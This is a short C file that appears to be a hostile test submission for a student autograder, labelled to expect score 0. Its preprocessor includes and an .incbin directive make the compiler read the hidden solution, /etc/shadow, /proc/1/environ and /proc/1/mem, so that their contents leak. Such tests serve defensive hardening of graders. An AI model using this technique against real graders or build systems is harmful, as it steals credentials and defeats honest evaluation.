/**
 * @file
 * @brief Hostile: makes the compiler read files that the student must not: the solution, and the grader's files as bytes.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 0
 * Says: does not compile
 *
 * The grader runs the compiler with its own permissions, in a directory whose path a student can guess. What the
 * compiler includes becomes part of the program, and what it cannot parse it quotes in its messages.
 */
#if __has_include("../../solutions/05_sysv_create/sysv_create.c")
#include "../../solutions/05_sysv_create/sysv_create.c"
#elif __has_include("/proc/self/cwd/../../solutions/05_sysv_create/sysv_create.c")
#include "/proc/self/cwd/../../solutions/05_sysv_create/sysv_create.c"
#elif __has_include("/proc/1/root/etc/shadow")
#include "/proc/1/root/etc/shadow"
#else
#include "/proc/1/environ"
#endif
__asm__(".incbin \"/proc/1/mem\"\n.incbin \"/etc/shadow\"\n");
